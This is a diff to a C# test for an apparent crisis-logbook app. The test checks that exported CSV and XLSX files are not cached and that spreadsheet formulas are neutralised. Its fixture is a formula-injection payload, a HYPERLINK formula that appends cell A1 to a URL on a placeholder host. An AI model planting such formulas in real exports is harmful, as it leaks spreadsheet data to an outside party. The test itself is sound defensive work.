@@ -74,12 +74,12 @@ public sealed partial class SecurityHeadersTests : IAsyncLifetime
     [Fact]
     public async Task The_logbook_export_is_never_stored_and_its_formulas_are_text()
     {
-        using var _ = _app.CreateClient();
         var crisis = await _app.Services.GetRequiredService<CrisisCommands>().OpenAsync(Sdis77, new CrisisDraft(
             "Crue de la Marne", CrisisType.Inondation, null, [Domain.Access.Jurisdiction.Commune("77108")], DateTimeOffset.UtcNow, false));
         await _app.Services.GetRequiredService<ILogbook>().AppendAsync(crisis.Id, Sdis77, LogbookEntryKind.Decision,
             "=HYPERLINK(\"https://exemple.invalid/?\"&A1,\"Détails\")");
-        using var client = await _app.SignedInAsync("sdis77");
+        using var client = new HttpClient(new HttpClientHandler { AllowAutoRedirect = false }) { BaseAddress = _base };
+        Assert.Equal(HttpStatusCode.Redirect, (await client.PostSignInAsync("sdis77", SignInClient.DemoPassword)).StatusCode);
 
         foreach (var format in new[] { "csv", "xlsx" })
         {
@@ -89,7 +89,13 @@ public sealed partial class SecurityHeadersTests : IAsyncLifetime
         }
         using var csv = await client.GetAsync($"/crises/{crisis.Id}/main-courante.csv");
         var rows = CsvInjectionTests.Read(await csv.Content.ReadAsByteArrayAsync());
-        Assert.Equal("'=HYPERLINK(\"https://exemple.invalid/?\"&A1,\"Détails\")", rows[1][4]);
+        Assert.Contains(rows, row => row[4] == "'=HYPERLINK(\"https://exemple.invalid/?\"&A1,\"Détails\")");
+        Assert.DoesNotContain(rows, row => row.Any(cell => cell.StartsWith('=')));
+
+        // The public outlines keep their day-long caching.
+        using var outlines = await client.GetAsync("/api/geographie/departements.geojson");
+        Assert.Equal(HttpStatusCode.OK, outlines.StatusCode);
+        Assert.Equal(TimeSpan.FromDays(1), outlines.Headers.CacheControl?.MaxAge);
     }
 
     [Fact]
